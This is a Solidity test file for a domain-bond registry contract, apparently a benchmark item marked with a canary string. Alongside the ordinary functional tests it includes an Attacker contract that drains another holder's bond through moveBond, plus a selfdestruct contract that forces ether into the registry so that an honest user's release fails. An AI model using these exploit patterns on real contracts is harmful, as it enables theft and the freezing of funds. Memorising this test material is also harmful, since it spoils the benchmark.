// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./DomainBonds.sol";

// assay-canary-1967029c-93e2-4158-9689-8898329c88b7

interface Vm {
    function deal(address who, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    DomainBonds internal domains;
    Attacker internal mallory;
    uint256 internal anas;

    function setUp() public {
        domains = new DomainBonds(1 ether);
        vm.deal(address(this), 100 ether);
        vm.deal(ANA, 100 ether);
        vm.deal(BEN, 10 ether);
        vm.prank(ANA);
        anas = domains.register{value: 40 ether}("bakery");
        mallory = new Attacker{value: 1 ether}(domains, anas);
    }

    function test_Regular() public {
        require(domains.resolve("bakery") == ANA && domains.ownerOf(anas) == ANA && domains.bonds(anas) == 40 ether, "registered");
        vm.startPrank(ANA);
        uint256 second = domains.register{value: 2 ether}("tea-room-2");
        domains.moveBond(anas, second, 10 ether);
        require(domains.bonds(anas) == 30 ether && domains.bonds(second) == 12 ether, "moved");
        domains.setRecord(second, BEN);
        vm.stopPrank();
        vm.prank(BEN);
        domains.addBond{value: 1 ether}(second);
        require(domains.resolve("tea-room-2") == BEN && domains.totalBonds() == 43 ether, "together");
        uint256 before = ANA.balance;
        vm.startPrank(ANA);
        require(domains.release(second) == 13 ether && ANA.balance == before + 13 ether, "released");
        require(domains.register{value: 1 ether}("tea-room-2") == second, "free again");
        domains.approve(BEN, anas);
        domains.setApprovalForAll(address(this), true);
        vm.stopPrank();
        vm.prank(BEN);
        domains.transferFrom(ANA, BEN, anas);
        domains.safeTransferFrom(ANA, BEN, second);
        vm.startPrank(BEN);
        domains.safeTransferFrom(BEN, ANA, second, "back");
        require(domains.release(anas) == 30 ether && BEN.balance == 39 ether, "a name takes its bond along");
        vm.stopPrank();
    }

    function test_RefusesLabels() public {
        vm.startPrank(BEN);
        vm.expectRevert("length");
        domains.register{value: 1 ether}("ab");
        vm.expectRevert("length");
        domains.register{value: 1 ether}("abcdefghijklmnopqrstuvwxyz0123456");
        vm.expectRevert("hyphen at the end");
        domains.register{value: 1 ether}("-abc");
        vm.expectRevert("hyphen at the end");
        domains.register{value: 1 ether}("abc-");
        vm.expectRevert("letters");
        domains.register{value: 1 ether}("abC");
        vm.expectRevert("letters");
        domains.register{value: 1 ether}("a~c");
        vm.expectRevert("letters");
        domains.register{value: 1 ether}("a:c");
        vm.expectRevert("letters");
        domains.register{value: 1 ether}("a.c");
        vm.expectRevert("taken");
        domains.register{value: 1 ether}("bakery");
        vm.expectRevert(abi.encodeWithSelector(BondTooSmall.selector, 1, 1 ether));
        domains.register{value: 1}("abc");
        vm.stopPrank();
        vm.expectRevert("no minimum");
        new DomainBonds(0);
    }

    function test_RefusesBonds() public {
        vm.startPrank(ANA);
        uint256 second = domains.register{value: 2 ether}("second");
        vm.expectRevert("nothing added");
        domains.addBond(second);
        vm.expectRevert(abi.encodeWithSelector(NotRegistered.selector, 7));
        domains.addBond{value: 1}(7);
        vm.expectRevert(abi.encodeWithSelector(NotRegistered.selector, 7));
        domains.moveBond(7, second, 1);
        vm.expectRevert(abi.encodeWithSelector(NotRegistered.selector, 7));
        domains.moveBond(second, 7, 1);
        vm.expectRevert("wrong amount");
        domains.moveBond(anas, second, 0);
        vm.expectRevert("wrong amount");
        domains.moveBond(anas, second, 41 ether);
        vm.expectRevert(abi.encodeWithSelector(BondTooSmall.selector, 0, 1 ether));
        domains.moveBond(anas, second, 40 ether);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        uint256 second = domains.register{value: 2 ether}("second");
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(NotHolder.selector, anas));
        domains.setRecord(anas, BEN);
        vm.expectRevert(abi.encodeWithSelector(NotHolder.selector, anas));
        domains.release(anas);
        (bool ok, ) = address(domains).call(abi.encodeCall(domains.moveBond, (anas, second, 1 ether)));
        require(!ok, "holds neither");
        vm.stopPrank();
        uint256 ours = domains.register{value: 1 ether}("ours");
        vm.expectRevert("not paid");
        domains.release(ours);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 40 ether, "nothing gained");
    }

    function exploit2() public {
        mallory.leave();
    }

    function test_Exploit2() public {
        exploit2();
        (bool done, ) = address(this).call(abi.encodeCall(this.releaseOfAna, ()));
        require(!done, "nothing denied");
    }

    // An honest user's call.
    function releaseOfAna() external {
        vm.prank(ANA);
        domains.release(anas);
    }

    function target() public view returns (address) {
        return address(domains);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    DomainBonds internal domains;
    uint256 internal other;

    constructor(DomainBonds domains_, uint256 other_) payable {
        domains = domains_;
        other = other_;
    }

    function run() external {
        uint256 own = domains.register{value: 1 ether}("mallory");
        domains.moveBond(other, own, domains.bonds(other) - domains.minimumBond());
        domains.release(own);
    }

    function leave() external {
        new Legacy{value: 1}(payable(address(domains)));
    }

    receive() external payable {}
}

// Leaves its ether to an account that need not take it.
contract Legacy {
    constructor(address payable heir) payable {
        selfdestruct(heir);
    }
}
